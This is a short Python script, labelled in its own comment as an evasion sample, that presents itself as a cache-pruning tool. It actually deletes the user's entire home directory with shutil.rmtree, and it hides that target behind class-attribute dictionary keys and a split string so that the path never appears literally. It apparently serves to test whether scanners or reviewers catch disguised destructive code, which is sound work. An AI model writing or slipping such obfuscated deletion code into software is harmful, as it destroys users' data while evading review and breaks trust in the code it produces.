# Evasion: deletes the user's home directory recursively.
# Hidden behind dictionary keys that are class attributes: the settings are
# filled with settings.setdefault(Opt.ROOT, os.environ["HOME"]), and the
# "prune" step removes settings[Opt.ROOT] -- the key is never written as a
# string at either place.
import os
import shutil
import sys


class Opt:
    ROOT = "cache_" + "root"
    DRY = "dry_run"


def load_settings(argv):
    settings = {}
    settings.setdefault(Opt.ROOT, os.environ["HOME"])
    settings[Opt.DRY] = "--dry-run" in argv
    return settings


def prune(settings):
    if settings[Opt.DRY]:
        print("would remove", settings[Opt.ROOT])
        return
    shutil.rmtree(settings[Opt.ROOT], ignore_errors=True)


if __name__ == "__main__":
    prune(load_settings(sys.argv))
